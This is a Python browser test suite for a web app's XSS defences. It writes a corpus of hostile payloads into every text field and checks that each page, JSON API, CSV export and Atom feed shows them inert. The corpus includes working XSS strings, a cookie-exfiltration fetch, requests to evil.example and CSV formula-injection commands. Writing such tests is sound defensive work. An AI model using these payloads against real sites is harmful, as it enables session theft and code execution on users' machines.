"""The XSS corpus: hostile text stored through the write API in every free-text field, published
(one change set also left proposed, one rejected), then every page that shows it opened in
Chromium.

On every page: no dialog opens, no injected script runs (`window.__xss`, `document.title`, no
request to evil.example or to a URL only injected markup would ask for), no element or attribute
that could run script exists, the Content-Security-Policy reports nothing, and the hostile text
reads exactly as it was typed. The JSON API carries the payloads as data, the CSV export guards
formula cells, and the Atom feed stays well-formed XML.

Runs on its own server over a writable copy of the seeded database.
"""

import csv
import io
import re
import shutil
import urllib.request
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient
from playwright.sync_api import Browser, BrowserContext, Page, expect
from playwright.sync_api import Error as PlaywrightError

from app import accounts
from app.db import Database
from app.main import create_app
from app.models import Role
from app.settings import Settings
from tests.browser.conftest import ARTIFACTS, DESKTOP, serve

PASSWORD = "a long enough password"
DATE = "2025-06-01"
ACTOR = "xss-actor"
SITE = "xss-site"
FORCE = "xss-force"
DEPLOYMENT = "xss-deployment"
MOVEMENT = "xss-movement"
EVENT = "xss-event"
SOURCE_A = "xss-source-a"
SOURCE_B = "xss-source-b"
# A link and an archive link that try to break out of the href attribute they are written into.
SOURCE_URL = 'https://example.org/"><script>alert(1)</script>'
ARCHIVE_URL = "https://example.org/?q=<img/src=x/onerror=alert(1)>"

# ---- the corpus: name -> payload body; each payload ends in its own marker [xNN]

LONG = "".join(f"{i:04d}LONGWORD" for i in range(834))  # 10 008 characters, no break
BODIES: list[tuple[str, str]] = [
    ("script", "<script>window.__xss=1</script>"),
    ("img-onerror", '<img src=x onerror="window.__xss=1">'),
    ("svg-onload", "<svg onload=window.__xss=1>"),
    ("svg-script", "<svg><script>window.__xss=1</script></svg>"),
    ("quote-script", '"><script>window.__xss=1</script>'),
    ("single-quote-mouseover", "' onmouseover='window.__xss=1' x='"),
    ("javascript-url", "javascript:window.__xss=1//"),
    ("script-close-json", "</script><script>window.__xss=1</script>"),
    ("iframe-javascript", '<iframe src="javascript:window.__xss=1"></iframe>'),
    ("a-javascript", '<a href="javascript:window.__xss=1">x</a>'),
    ("body-onload", "<body onload=window.__xss=1>"),
    ("details-ontoggle", "<details open ontoggle=window.__xss=1>"),
    ("jinja", "{{7*7}}"),
    ("js-template", "${7*7}"),
    ("style", "<style>*{display:none}</style>"),
    ("math-mxss", "<math><mtext></p><script>window.__xss=1</script>"),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("svg-breakout", "\"'><svg/onload=window.__xss=1>"),
    ("input-autofocus", "<input autofocus onfocus=window.__xss=1>"),
    ("line-separators", "line\u2028sep\u2029para</script><!--"),
    ("long", LONG),
    ("rtl-override", "\u202eexe.txt\u202c \u2067isolated\u2069 \u202bembedded\u202c"),
    ("base", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
    ("object-javascript", '<object data="javascript:window.__xss=1"></object>'),
    ("img-alert", "<img src=x onerror=alert(1)//"),
    ("title-pwned", "<img src=x onerror=\"document.title='pwned'\">"),
    ("fetch-cookie", "<img src=x onerror=\"fetch('/x?'+document.cookie)\">"),
    ("formula-eq", '=HYPERLINK("https://evil.example/?"&A1,"open")'),
    ("formula-plus", "+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("svg-animate", "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>"),
    ("video-source", '<video><source onerror="window.__xss=1"></video>'),
    ("form-action", '<form action="javascript:window.__xss=1"><button>go</button></form>'),
    ("attr-autofocus", '" autofocus onfocus="document.title=\'pwned\'" x="'),
    ("js-string", '";alert(1);//'),
    ("cdata", "]]><script>window.__xss=1</script><![CDATA["),
    ("remote-image", '<img src="https://evil.example/pixel.gif">'),
    ("fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("escape-chars", "\x1b[31mred\x1b[0m \\u003cb\\u003e"),
]
CORPUS: dict[str, str] = {name: f"{body}[x{n:02d}]" for n, (name, body) in enumerate(BODIES, 1)}


@dataclass(frozen=True)
class Slot:
    """A free-text field that gets one payload: the column's length limit, and whether the pages
    split it on ';' (aliases)."""

    key: str
    limit: int = 100_000
    splits: bool = False


COMMENT = 140  # /review shows a change set's comment cut to 140 characters
SLOTS = [
    Slot("actor.name", 200),
    Slot("actor.short_name", 40),
    Slot("actor.aliases", splits=True),
    Slot("actor.description"),
    Slot("site.name", 200),
    Slot("site.aliases", splits=True),
    Slot("site.admin1", 100),
    Slot("site.description"),
    Slot("force.name", 200),
    Slot("force.sidc", 30),
    Slot("force.description"),
    Slot("deployment.strength"),
    Slot("deployment.note"),
    Slot("movement.description"),
    Slot("movement.to_label", 200),
    Slot("event.title", 300),
    Slot("event.description"),
    Slot("source_a.publisher", 200),
    Slot("source_a.title"),
    Slot("source_a.description"),
    Slot("source_b.publisher", 200),
    Slot("source_b.title"),
    Slot("source_b.description"),
    Slot("claim.actor"),
    Slot("claim.site"),
    Slot("claim.force"),
    Slot("claim.deployment_supports"),
    Slot("claim.deployment_disputes"),
    Slot("claim.deployment_context"),
    Slot("claim.movement"),
    Slot("claim.event"),
    Slot("published.comment", COMMENT),
    Slot("published.remark", 5000),
    Slot("proposed.comment", COMMENT),
    Slot("proposed.site_name", 200),
    Slot("proposed.site_description"),
    Slot("proposed.strength"),
    Slot("proposed.note"),
    Slot("proposed.remark_editor", 5000),
    Slot("proposed.remark_author", 5000),
    Slot("rejected.comment", COMMENT),
    Slot("rejected.actor_description"),
    Slot("rejected.reason", 5000),
]
# Payloads placed on purpose: attribute breakouts where pages write the value into attributes
# (data-name, aria-label, title), formulas where the CSV exports carry them, the long string
# where the page layout must survive it.
PINNED = {
    "site.name": "svg-breakout",
    "actor.name": "img-onerror",
    "actor.short_name": "script",
    "force.name": "quote-script",
    "site.description": "long",
    "deployment.strength": "formula-eq",
    "deployment.note": "single-quote-mouseover",
    "movement.description": "formula-plus",
    "movement.to_label": "attr-autofocus",
    "event.title": "formula-at",
    "event.description": "formula-minus",
    "source_a.publisher": "title-pwned",
    "source_a.title": "fetch-cookie",
    "claim.deployment_supports": "script-close-json",
    "proposed.site_name": "img-alert",
}


def _fits(slot: Slot, payload: str) -> bool:
    return len(payload) <= slot.limit and not (slot.splits and ";" in payload)


def _assign() -> dict[str, str]:
    """Each slot's payload name: the pins, then the rest of the corpus in order, cycling."""
    chosen = dict(PINNED)
    waiting = [name for name in CORPUS if name not in PINNED.values()]
    names = list(CORPUS)
    turn = 0
    for slot in SLOTS:
        if slot.key in chosen:
            continue
        fitting = [n for n in waiting if _fits(slot, CORPUS[n])]
        if fitting:
            chosen[slot.key] = fitting[0]
            waiting.remove(fitting[0])
            continue
        while not _fits(slot, CORPUS[names[turn % len(names)]]):
            turn += 1
        chosen[slot.key] = names[turn % len(names)]
        turn += 1
    return chosen


PLACED = _assign()
HOSTILE: dict[str, str] = {key: CORPUS[name] for key, name in PLACED.items()}

# ---- which fields each page shows

# The published records' own fields (not the change sets' comments).
RECORD_FIELDS = [
    s.key for s in SLOTS if s.key.split(".")[0] not in ("published", "proposed", "rejected")
]
CITATIONS_OF_DEPLOYMENT = [
    "claim.deployment_supports",
    "claim.deployment_disputes",
    "claim.deployment_context",
]
SOURCE_NAMES = ["source_a.publisher", "source_a.title", "source_b.publisher", "source_b.title"]
POPUP_FIELDS = [
    "site.name",
    "force.name",
    "actor.name",
    "deployment.strength",
    "deployment.note",
    *CITATIONS_OF_DEPLOYMENT,
    *SOURCE_NAMES,
]
MOVEMENT_CARD_FIELDS = [
    "site.name",
    "movement.to_label",
    "force.name",
    "actor.name",
    "movement.description",
    "claim.movement",
    "source_b.publisher",
    "source_b.title",
]
EVENT_CARD_FIELDS = [
    "event.title",
    "site.name",
    "actor.name",
    "event.description",
    "claim.event",
    "source_a.publisher",
    "source_a.title",
]
PUBLIC_PAGES: dict[str, list[str]] = {
    f"/sites/{SITE}": [
        "site.name",
        "site.aliases",
        "site.admin1",
        "site.description",
        "actor.name",
        "actor.short_name",
        "force.name",
        "deployment.strength",
        "deployment.note",
        *CITATIONS_OF_DEPLOYMENT,
        *SOURCE_NAMES,
        "claim.site",
        "movement.description",
        "movement.to_label",
        "claim.movement",
        "event.title",
        "event.description",
        "claim.event",
    ],
    f"/actors/{ACTOR}": [
        "actor.name",
        "actor.aliases",
        "actor.description",
        "force.name",
        "force.description",
        "site.name",
    ],
    # The sources page lists a page at a time; a search by id finds both hostile sources.
    "/sources?q=xss-source": [
        "source_a.publisher",
        "source_a.title",
        "source_a.description",
        "source_b.publisher",
        "source_b.title",
        "source_b.description",
        "claim.actor",
        "claim.site",
        "claim.force",
        *CITATIONS_OF_DEPLOYMENT,
        "claim.movement",
        "claim.event",
    ],
    "/sources?show=no-link": [
        "source_b.publisher",
        "source_b.title",
        "source_b.description",
        "claim.deployment_disputes",
        "claim.movement",
    ],
    f"/table?date={DATE}": [
        "site.name",
        "actor.name",
        "force.name",
        "source_b.publisher",
        "source_b.title",
        "claim.deployment_disputes",
    ],
    "/about": [],
    "/changes": RECORD_FIELDS,
    f"/history/deployment/{DEPLOYMENT}": [
        "deployment.strength",
        "deployment.note",
        *CITATIONS_OF_DEPLOYMENT,
    ],
}
EDITOR_PAGES: dict[str, list[str]] = {
    "/review": ["published.comment", "proposed.comment", "rejected.comment"],
    "/changesets/{published}": ["published.comment", "published.remark", *RECORD_FIELDS],
    "/changesets/{proposed}": [
        "proposed.comment",
        "proposed.site_name",
        "proposed.site_description",
        "proposed.strength",
        "proposed.note",
        "proposed.remark_editor",
        "proposed.remark_author",
    ],
    "/changesets/{rejected}": [
        "rejected.comment",
        "rejected.actor_description",
        "rejected.reason",
    ],
}

# ---- what the browser must never see

# Runs before any page script: records what the Content-Security-Policy blocks.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(
    `${event.effectiveDirective} blocked ${event.blockedURI || "inline"} ${event.sample || ""}`
  );
});
"""

# Elements and attributes no page of this app has of its own, so any of them came from the data.
FIND_INJECTED = r"""
() => {
  const problems = [];
  const urlAttributes = new Set(["href", "src", "action", "formaction", "data", "srcset",
    "poster", "background", "xlink:href", "content", "style", "ping"]);
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith("on")) problems.push(`<${element.localName} ${name}=...>`);
      if (urlAttributes.has(name) && /^\s*(javascript|vbscript):/i.test(attribute.value)) {
        problems.push(`<${element.localName} ${name}="${attribute.value.slice(0, 60)}">`);
      }
      if (urlAttributes.has(name) && /evil\.example/i.test(attribute.value)) {
        problems.push(`<${element.localName} ${name}="${attribute.value.slice(0, 60)}">`);
      }
    }
  }
  for (const script of document.scripts) {
    const src = script.getAttribute("src");
    if (!src) {
      problems.push(`inline <script>${script.textContent.slice(0, 60)}`);
      continue;
    }
    const url = new URL(src, location.href);
    if (url.origin !== location.origin || !url.pathname.startsWith("/static/")) {
      problems.push(`<script src="${src}">`);
    }
  }
  const forbidden = [
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "math",
    "video", "audio", "source", "marquee", "noscript", "template", "meta[http-equiv]",
    "body meta", "body link:not([rel=stylesheet][href^='/static/'])", "img[src='x']",
    "input[autofocus]", "svg script", "svg animate", "svg set",
  ].join(", ");
  for (const element of document.querySelectorAll(forbidden)) {
    problems.push(`element ${element.outerHTML.slice(0, 100)}`);
  }
  return problems;
}
"""

# Marks the elements whose own text holds a payload marker, so they can be hovered over.
MARK_PROBES = r"""
(scope) => {
  let n = 0;
  const root = document.querySelector(scope) || document.body;
  for (const element of root.querySelectorAll("*")) {
    const own = [...element.childNodes].filter((c) => c.nodeType === Node.TEXT_NODE);
    if (own.some((c) => /\[x\d\d\]/.test(c.textContent))) element.dataset.xssProbe = String(n++);
  }
  return n;
}
"""


def _norm(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def _simple(payload: str) -> bool:
    """Short printable ASCII: safe to hand to Playwright's text matching as it is."""
    return len(payload) < 200 and all(" " <= c <= "~" for c in payload)


def _label(key: str) -> str:
    return f"{key} ({PLACED[key]}: {HOSTILE[key][:70]!r})"


@dataclass
class World:
    base_url: str
    database_url: str
    client: TestClient
    tokens: dict[str, str]
    published: int
    proposed: int
    rejected: int

    def path(self, template: str) -> str:
        return template.format(
            published=self.published, proposed=self.proposed, rejected=self.rejected
        )


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _ok(answer: Any, what: str) -> dict[str, Any]:
    assert answer.status_code in (200, 201), f"{what}: {answer.status_code} {answer.text[:2000]}"
    return answer.json()  # type: ignore[no-any-return]


def _citation(source: str, record_type: str, record: str, stance: str, claim: str) -> dict:
    return {
        "action": "create",
        "entity": "citation",
        "values": {
            "source": source,
            "record_type": record_type,
            "record": record,
            "stance": stance,
            "credibility": "3",
            "claim": claim,
        },
    }


def _published_operations(v: dict[str, str]) -> list[dict[str, Any]]:
    def create(entity: str, values: dict[str, str]) -> dict[str, Any]:
        return {"action": "create", "entity": entity, "values": values}

    return [
        create(
            "actor",
            {
                "slug": ACTOR,
                "name": v["actor.name"],
                "short_name": v["actor.short_name"],
                "kind": "armed_group",
                "color": "#8e44ad",
                "aliases": v["actor.aliases"],
                "description": v["actor.description"],
            },
        ),
        create(
            "site",
            {
                "slug": SITE,
                "name": v["site.name"],
                "aliases": v["site.aliases"],
                "kind": "outpost",
                # East of Qamishli, clear of its airport and city markers.
                "lat": "36.98",
                "lon": "41.45",
                "geo_precision": "1",
                "country": "SY",
                "admin1": v["site.admin1"],
                "description": v["site.description"],
            },
        ),
        create(
            "force",
            {
                "slug": FORCE,
                "name": v["force.name"],
                "actor": ACTOR,
                "branch": "ground",
                "sidc": v["force.sidc"],
                "description": v["force.description"],
            },
        ),
        create(
            "source",
            {
                "slug": SOURCE_A,
                "publisher": v["source_a.publisher"],
                "title": v["source_a.title"],
                "url": SOURCE_URL,
                "archive_url": ARCHIVE_URL,
                "published": "2025-01-02",
                "reliability": "C",
                "scale": "local",
                "description": v["source_a.description"],
            },
        ),
        create(
            "source",
            {
                "slug": SOURCE_B,
                "publisher": v["source_b.publisher"],
                "title": v["source_b.title"],
                "reliability": "E",
                "description": v["source_b.description"],
            },
        ),
        create(
            "deployment",
            {
                "slug": DEPLOYMENT,
                "force": FORCE,
                "site": SITE,
                "start": "2025-01-01",
                "start_precision": "day",
                "status": "active",
                "strength": v["deployment.strength"],
                "confidence": "medium",
                "note": v["deployment.note"],
            },
        ),
        create(
            "movement",
            {
                "slug": MOVEMENT,
                "force": FORCE,
                "from_site": SITE,
                "to_label": v["movement.to_label"],
                "start": "2025-05-20",
                "start_precision": "day",
                "description": v["movement.description"],
                "confidence": "low",
            },
        ),
        create(
            "event",
            {
                "slug": EVENT,
                "date": "2025-05-25",
                "date_precision": "day",
                "kind": "statement",
                "title": v["event.title"],
                "description": v["event.description"],
                "site": SITE,
                "actors": ACTOR,
                "confidence": "medium",
            },
        ),
        _citation(SOURCE_A, "actor", ACTOR, "context", v["claim.actor"]),
        _citation(SOURCE_A, "site", SITE, "supports", v["claim.site"]),
        _citation(SOURCE_A, "force", FORCE, "supports", v["claim.force"]),
        _citation(SOURCE_A, "deployment", DEPLOYMENT, "supports", v["claim.deployment_supports"]),
        _citation(SOURCE_B, "deployment", DEPLOYMENT, "disputes", v["claim.deployment_disputes"]),
        _citation(SOURCE_A, "deployment", DEPLOYMENT, "context", v["claim.deployment_context"]),
        _citation(SOURCE_B, "movement", MOVEMENT, "supports", v["claim.movement"]),
        _citation(SOURCE_A, "event", EVENT, "supports", v["claim.event"]),
    ]


@pytest.fixture(scope="module")
def world(seeded_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The seeded database copied, three accounts, and the corpus written through the API."""
    work = tmp_path_factory.mktemp("xss")
    target = work / "orbat.db"
    shutil.copyfile(Path(seeded_url.removeprefix("sqlite:///")), target)
    url = f"sqlite:///{target}"
    db = Database(url)
    with db.write_session() as s:
        users = [
            accounts.create_user(s, "carla", Role.contributor, PASSWORD),
            accounts.create_user(s, "eddie", Role.editor, PASSWORD),
            accounts.create_user(s, "erin", Role.editor, PASSWORD),
        ]
        tokens = {user.name: accounts.issue_token(s, user) for user in users}
        s.commit()
    db.close()
    carla, eddie, erin = (_bearer(tokens[n]) for n in ("carla", "eddie", "erin"))
    v = HOSTILE
    app = create_app(Settings(database_url=url, remote_tiles=False))
    with TestClient(app, base_url="https://testserver") as client:
        api = "/api/v1/changesets"
        published = _ok(
            client.post(
                api,
                json={"comment": v["published.comment"], "operations": _published_operations(v)},
                headers=carla,
            ),
            "create the hostile records",
        )["id"]
        _ok(client.post(f"{api}/{published}/propose", headers=carla), "propose")
        _ok(client.post(f"{api}/{published}/publish", headers=erin), "publish")
        _ok(
            client.post(
                f"{api}/{published}/comments", json={"text": v["published.remark"]}, headers=eddie
            ),
            "comment on the published change set",
        )

        proposed = _ok(
            client.post(
                api,
                json={
                    "comment": v["proposed.comment"],
                    "operations": [
                        {
                            "action": "update",
                            "entity": "site",
                            "key": SITE,
                            "values": {
                                "name": v["proposed.site_name"],
                                "description": v["proposed.site_description"],
                            },
                        },
                        {
                            "action": "update",
                            "entity": "deployment",
                            "key": DEPLOYMENT,
                            "values": {
                                "strength": v["proposed.strength"],
                                "note": v["proposed.note"],
                            },
                        },
                    ],
                },
                headers=carla,
            ),
            "create the proposal",
        )["id"]
        _ok(client.post(f"{api}/{proposed}/propose", headers=carla), "propose")
        for text, who in (
            (v["proposed.remark_editor"], eddie),
            (v["proposed.remark_author"], carla),
        ):
            _ok(client.post(f"{api}/{proposed}/comments", json={"text": text}, headers=who), "c")

        rejected = _ok(
            client.post(
                api,
                json={
                    "comment": v["rejected.comment"],
                    "operations": [
                        {
                            "action": "update",
                            "entity": "actor",
                            "key": ACTOR,
                            "values": {"description": v["rejected.actor_description"]},
                        }
                    ],
                },
                headers=carla,
            ),
            "create the change set to reject",
        )["id"]
        _ok(client.post(f"{api}/{rejected}/propose", headers=carla), "propose")
        _ok(
            client.post(
                f"{api}/{rejected}/reject", json={"reason": v["rejected.reason"]}, headers=erin
            ),
            "reject",
        )
        with serve(url, work, ORBAT_REMOTE_TILES="false") as base_url:
            yield World(base_url, url, client, tokens, published, proposed, rejected)


# ---- a browser tab that records everything a payload could do


@dataclass
class Tab:
    page: Page
    base_url: str
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    escaped: list[str] = field(default_factory=list)

    def open(self, path: str) -> Page:
        answer = self.page.goto(f"{self.base_url}{path}")
        assert answer is not None and answer.status == 200, f"{path}: {answer and answer.status}"
        self.page.wait_for_selector('body[data-ready="true"]', state="attached")
        return self.page

    def suspicious_requests(self) -> list[str]:
        """Requests only injected markup makes: other hosts, or `x`, `x.css`, `pixel.gif`."""
        found = list(self.escaped)
        for url in self.requests:
            if url.startswith("data:"):
                continue
            parts = urlsplit(url)
            last = parts.path.rsplit("/", 1)[-1]
            if not url.startswith(self.base_url + "/") or last in ("x", "x.css", "pixel.gif"):
                found.append(url)
        return found

    def poke(self, scope: str = "body", limit: int = 25) -> None:
        """Hover over the elements that hold payloads and tab through the page, so mouseover,
        focus and toggle handlers would fire if any had been injected."""
        count = self.page.evaluate(MARK_PROBES, scope)
        hovered = 0
        for n in range(count):
            if hovered >= limit:
                break
            probe = self.page.locator(f'[data-xss-probe="{n}"]')
            try:
                if probe.is_visible():
                    probe.hover(timeout=1500)
                    hovered += 1
            except PlaywrightError:
                pass
        for _ in range(8):
            self.page.keyboard.press("Tab")
        # Give an image's onerror, a refresh or a fetch the moment it needs to happen.
        self.page.wait_for_timeout(250)

    def assert_safe(self, where: str) -> None:
        page = self.page
        assert self.dialogs == [], f"{where}: dialogs opened: {self.dialogs}"
        ran = page.evaluate(
            "() => ({xss: typeof window.__xss === 'undefined' ? null : String(window.__xss),"
            " title: document.title, href: location.href})"
        )
        assert ran["xss"] is None, f"{where}: window.__xss was set to {ran['xss']!r}"
        assert ran["title"] != "pwned", f"{where}: document.title was changed"
        assert ran["href"].startswith(self.base_url), f"{where}: navigated to {ran['href']}"
        assert self.suspicious_requests() == [], (
            f"{where}: requests only injected markup would make: {self.suspicious_requests()}"
        )
        injected = page.evaluate(FIND_INJECTED)
        assert injected == [], f"{where}: markup from the data made it into the DOM: {injected}"
        violations = page.evaluate("window.__violations || []")
        assert violations == [], f"{where}: the Content-Security-Policy blocked: {violations}"
        assert self.errors == [], f"{where}: JavaScript errors: {self.errors}"

    def assert_text(self, where: str, keys: list[str], scope: str = "body") -> None:
        """Each field's payload is in the page's text exactly as typed (whitespace collapsed)."""
        text = _norm(self.page.locator(scope).first.evaluate("(e) => e.textContent"))
        missing = [_label(k) for k in keys if _norm(HOSTILE[k]) not in text]
        assert missing == [], f"{where}: not shown as typed: {missing}"
        # A sample must also be visible, not only somewhere in the DOM.
        for key in [k for k in keys if _simple(HOSTILE[k])][:3]:
            shown = self.page.locator(scope).get_by_text(HOSTILE[key], exact=False)
            expect(shown.filter(visible=True).first, f"{where}: {_label(key)}").to_be_visible()

    def assert_no_overflow(self, where: str) -> None:
        widths = self.page.evaluate(
            "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        wide, view = widths
        assert wide <= view, f"{where}: the page is {wide}px wide in a {view}px wide window"


def _new_tab(context: BrowserContext, base_url: str) -> Tab:
    context.set_default_timeout(10_000)
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    tab = Tab(page=page, base_url=base_url)

    def on_dialog(dialog) -> None:  # type: ignore[no-untyped-def]
        tab.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def on_console(message) -> None:  # type: ignore[no-untyped-def]
        if message.type == "error":
            tab.errors.append(f"console: {message.text} ({message.location.get('url')})")

    def to_evil(route) -> None:  # type: ignore[no-untyped-def]
        tab.escaped.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^https?://([^/]*\.)?evil\.example"), to_evil)
    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda error: tab.errors.append(f"pageerror: {error}"))
    page.on("request", lambda request: tab.requests.append(request.url))
    return tab


@pytest.fixture
def tab(browser: Browser, world: World) -> Iterator[Tab]:
    context = browser.new_context(viewport=DESKTOP, locale="en-GB", timezone_id="UTC")
    try:
        yield _new_tab(context, world.base_url)
    finally:
        context.close()


@pytest.fixture(scope="module")
def editor_state(browser: Browser, world: World) -> dict[str, Any]:
    """Cookies of a browser signed in as the editor eddie (through the /login form)."""
    context = browser.new_context(viewport=DESKTOP)
    try:
        page = context.new_page()
        page.goto(f"{world.base_url}/login")
        page.fill("#login-name", "eddie")
        page.fill("#login-password", PASSWORD)
        page.click("form.form button[type=submit]")
        page.wait_for_selector('body[data-ready="true"]', state="attached")
        expect(page.locator(".account-name")).to_contain_text("eddie")
        return context.storage_state()  # type: ignore[return-value]
    finally:
        context.close()


@pytest.fixture
def editor_tab(browser: Browser, world: World, editor_state: dict[str, Any]) -> Iterator[Tab]:
    context = browser.new_context(
        viewport=DESKTOP,
        locale="en-GB",
        timezone_id="UTC",
        storage_state=editor_state,  # type: ignore[arg-type]
    )
    try:
        yield _new_tab(context, world.base_url)
    finally:
        context.close()


# ---- the corpus itself


def test_the_corpus_covers_every_payload_and_every_field() -> None:
    assert len(CORPUS) >= 30
    assert set(PLACED) == {s.key for s in SLOTS}
    unused = set(CORPUS) - set(PLACED.values())
    assert unused == set(), f"payloads in no field: {unused}"
    markers = [re.findall(r"\[x\d\d\]", p)[-1] for p in CORPUS.values()]
    assert len(set(markers)) == len(CORPUS)
    assert len(CORPUS["long"]) > 10_000
    for slot in SLOTS:
        assert _fits(slot, HOSTILE[slot.key]), slot.key


# ---- outside the browser: the API, the exports and the feed


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


@pytest.mark.parametrize(
    ("path", "keys"),
    [
        (
            f"/api/v1/sites/{SITE}",
            ["site.name", "site.aliases", "site.admin1", "site.description"],
        ),
        (
            "/api/v1/deployments",
            [
                "site.name",
                "force.name",
                "actor.name",
                "deployment.strength",
                "deployment.note",
                *CITATIONS_OF_DEPLOYMENT,
            ],
        ),
        ("/api/v1/movements", ["movement.description", "movement.to_label", "claim.movement"]),
        ("/api/v1/events", ["event.title", "event.description", "claim.event"]),
    ],
)
def test_the_json_api_carries_the_payloads_verbatim_as_json(
    world: World, path: str, keys: list[str]
) -> None:
    answer = world.client.get(path)
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["content-type"].split(";")[0] in (
        "application/json",
        "application/geo+json",
    )
    assert answer.headers.get("x-content-type-options") == "nosniff", dict(answer.headers)
    strings = set(_strings(answer.json()))
    missing = [_label(k) for k in keys if HOSTILE[k] not in strings]
    assert missing == [], f"{path} does not carry verbatim: {missing}"


@pytest.mark.parametrize("name", ["deployments", "movements", "events"])
def test_the_csv_exports_guard_every_formula_cell(world: World, name: str) -> None:
    answer = world.client.get(f"/export/{name}.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    slug = {"deployments": DEPLOYMENT, "movements": MOVEMENT, "events": EVENT}[name]
    row = next(r for r in rows if r["slug"] == slug)
    numbers = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
    for column, cell in row.items():
        if cell and cell[0] in "=+-@\t\r" and not numbers.fullmatch(cell):
            pytest.fail(f"{name}.csv {column} starts a formula: {cell[:80]!r}")
    expected = {
        "deployments": {"strength": "deployment.strength"},
        "movements": {"description": "movement.description"},
        "events": {"title": "event.title", "description": "event.description"},
    }[name]
    for column, key in expected.items():
        assert HOSTILE[key][0] in "=+-@"
        assert row[column] == "'" + HOSTILE[key], f"{name}.csv {column}: {row[column]!r}"


def test_the_write_api_refuses_links_that_are_not_web_links(world: World) -> None:
    for url in (
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://example.org/?q=<img src=x onerror=alert(1)>",
    ):
        answer = world.client.post(
            "/api/v1/changesets",
            json={
                "comment": "a link that is not a link",
                "operations": [
                    {
                        "action": "create",
                        "entity": "source",
                        "values": {
                            "slug": "xss-bad-link",
                            "publisher": "P",
                            "title": "T",
                            "url": url,
                            "reliability": "F",
                        },
                    }
                ],
            },
            headers=_bearer(world.tokens["carla"]),
        )
        assert answer.status_code == 422, (url, answer.status_code, answer.text[:300])


def test_the_atom_feed_is_well_formed_and_carries_the_text(world: World) -> None:
    with urllib.request.urlopen(f"{world.base_url}/changes.atom", timeout=10) as answer:
        assert answer.headers["content-type"].startswith("application/atom+xml")
        body = answer.read()
    root = ET.fromstring(body)  # raises on anything that is not well-formed XML
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert root.find("a:script", ns) is None
    titles = [e.findtext("a:title", "", ns) for e in root.findall("a:entry", ns)]
    assert f"New site {SITE}" in titles, titles[:20]
    # Each entry's summary is its diff as text; values are cut to 300 characters.
    summaries = " ".join(e.findtext("a:summary", "", ns) for e in root.findall("a:entry", ns))
    for key in ("site.name", "actor.name", "force.name", "deployment.strength", "claim.event"):
        assert HOSTILE[key] in summaries, _label(key)
    for entry in root.findall("a:entry", ns):
        # Only Atom's own elements: a payload never became an element of the feed.
        for element in entry.iter():
            assert element.tag.startswith("{http://www.w3.org/2005/Atom}"), element.tag


# ---- in the browser


def test_the_map_popup_and_side_lists_show_the_payloads_as_text(tab: Tab) -> None:
    page = tab.open(f"/?date={DATE}")
    v = HOSTILE
    entry = page.locator(f'#site-list [data-site="{SITE}"]')
    expect(entry.locator(".entry-title")).to_have_text(v["site.name"])
    tab.assert_text("side list", ["site.name", "force.name"], f'#site-list [data-site="{SITE}"]')
    swatch = entry.locator(".swatch").first
    assert swatch.get_attribute("title") == v["actor.name"]
    entry.hover()
    entry.focus()
    entry.click()
    popup = page.locator(".leaflet-popup-content")
    expect(popup.locator(".card-title")).to_have_text(v["site.name"])
    # Notes and sources arrive when the card opens; the payloads in them must arrive as text too.
    expect(popup.locator(".loading-sources")).to_have_count(0)
    tab.assert_text("site popup", POPUP_FIELDS, ".leaflet-popup-content")
    # The hostile link is a link to exactly what was typed, and only that.
    hrefs = popup.locator("a[href^='https://example.org/']").evaluate_all(
        "(links) => links.map((a) => a.getAttribute('href'))"
    )
    assert set(hrefs) == {SOURCE_URL, ARCHIVE_URL}, hrefs
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=ARTIFACTS / "xss-site-popup.png")
    tab.poke(".leaflet-popup-content")
    tab.assert_safe("map with the site popup open")

    # Markers carry names in title attributes, set as attributes rather than parsed as markup.
    titles = page.locator(".leaflet-marker-icon[title]").evaluate_all(
        "(icons) => icons.map((i) => i.getAttribute('title'))"
    )
    assert f"Event: {v['event.title']}" in titles, titles

    page.locator(f'#movement-list [data-movement="{MOVEMENT}"]').click()
    expect(page.locator("#details-body .movement-card")).to_be_visible()
    expect(page.locator("#details-body .loading-sources")).to_have_count(0)
    tab.assert_text("movement card", MOVEMENT_CARD_FIELDS, "#details-body")
    tab.poke("#movement-list")
